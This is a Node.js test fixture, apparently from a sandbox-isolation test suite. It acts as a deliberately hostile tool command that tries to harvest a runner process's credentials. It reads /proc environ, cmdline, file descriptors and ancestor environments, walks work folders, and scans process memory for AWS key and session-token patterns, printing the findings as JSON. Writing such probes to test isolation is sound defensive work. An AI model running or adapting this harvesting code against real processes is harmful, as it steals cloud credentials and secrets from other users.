// Run by the shell tool as a "malicious" tool command: tries every /proc path it knows to find
// the runner's credentials, and prints what it could read as one JSON object. It does not know
// the secrets; the test looks for them in what it prints.
import fs from 'node:fs';
import path from 'node:path';

const [holderPid, ...dirs] = process.argv.slice(2);
const out = { sources: {}, errors: {}, mem: { readable: false, bytes: 0, matches: [] }, shellFds: [] };

const read = (name, file, max = 256 * 1024) => {
  try {
    const fd = fs.openSync(file, 'r');
    const buf = Buffer.alloc(max);
    const n = fs.readSync(fd, buf, 0, max, null);
    fs.closeSync(fd);
    out.sources[name] = buf.subarray(0, n).toString('latin1');
  } catch (err) {
    out.errors[name] = err.code ?? err.message;
  }
};
const ppidOf = (pid) => {
  const stat = fs.readFileSync(`/proc/${pid}/stat`, 'utf8');
  return Number(stat.slice(stat.lastIndexOf(')') + 2).split(' ')[1]);
};

out.sources['tool env'] = Object.entries(process.env).map(([k, v]) => `${k}=${v}`).join('\n');
read('tool /proc/self/environ', '/proc/self/environ');
read('holder environ', `/proc/${holderPid}/environ`);
read('holder cmdline', `/proc/${holderPid}/cmdline`);
read('holder status', `/proc/${holderPid}/status`);
read('holder auxv', `/proc/${holderPid}/auxv`);
for (const tid of safeList(`/proc/${holderPid}/task`)) read(`holder thread ${tid} environ`, `/proc/${holderPid}/task/${tid}/environ`);
for (const fd of safeList(`/proc/${holderPid}/fd`)) {
  const link = `/proc/${holderPid}/fd/${fd}`;
  let target;
  try {
    target = fs.readlinkSync(link);
  } catch (err) {
    out.errors[`holder fd ${fd}`] = err.code;
    continue;
  }
  out.sources[`holder fd ${fd} target`] = target;
  // Regular files the runner has open (not sockets, pipes or anon inodes, which would block).
  if (target.startsWith('/') && !target.startsWith('/dev/')) read(`holder fd ${fd} content`, link, 64 * 1024);
}
// Every ancestor up to pid 1.
for (let pid = ppidOf(holderPid), hops = 0; pid > 1 && hops < 32; pid = ppidOf(pid), hops++) {
  read(`ancestor ${pid} environ`, `/proc/${pid}/environ`);
  read(`ancestor ${pid} cmdline`, `/proc/${pid}/cmdline`);
}
// The shell that runs this probe: which descriptors did the tool inherit?
const shellPid = ppidOf(process.pid);
for (const fd of safeList(`/proc/${shellPid}/fd`)) {
  try {
    out.shellFds.push(`${fd} -> ${fs.readlinkSync(`/proc/${shellPid}/fd/${fd}`)}`);
  } catch (err) {
    out.shellFds.push(`${fd} -> ${err.code}`);
  }
}
// Files the runner wrote where the tool can look (its home, temp and work folders).
for (const dir of dirs) {
  for (const file of walk(dir)) read(`file ${file}`, file, 64 * 1024);
}
// The runner's memory: readable only with ptrace access (same user and no Yama restriction, or root).
try {
  const maps = fs.readFileSync(`/proc/${holderPid}/maps`, 'utf8').trim().split('\n');
  const fd = fs.openSync(`/proc/${holderPid}/mem`, 'r');
  out.mem.readable = true;
  const found = new Set();
  for (const line of maps) {
    const [range, perms] = line.split(' ');
    if (!perms.startsWith('r')) continue;
    const [lo, hi] = range.split('-').map((h) => Number.parseInt(h, 16));
    if (hi - lo > 256 * 1024 * 1024) continue;
    const buf = Buffer.alloc(hi - lo);
    try {
      fs.readSync(fd, buf, 0, buf.length, lo);
    } catch {
      continue;
    }
    out.mem.bytes += buf.length;
    const text = buf.toString('latin1');
    for (const m of text.matchAll(/AKIA[A-Z0-9]{16}|IQoJb3JpZ2luX2Vj[A-Za-z0-9/+=]{20,120}/g)) found.add(m[0]);
  }
  fs.closeSync(fd);
  out.mem.matches = [...found];
} catch (err) {
  out.errors['holder mem'] = err.code ?? err.message;
}

process.stdout.write(JSON.stringify(out));

function safeList(dir) {
  try {
    return fs.readdirSync(dir);
  } catch (err) {
    out.errors[`list ${dir}`] = err.code;
    return [];
  }
}

function walk(dir) {
  const files = [];
  const visit = (d) => {
    for (const e of safeList(d)) {
      const p = path.join(d, e);
      const st = fs.lstatSync(p);
      if (st.isDirectory()) visit(p);
      else if (st.isFile()) files.push(p);
    }
  };
  visit(dir);
  return files;
}
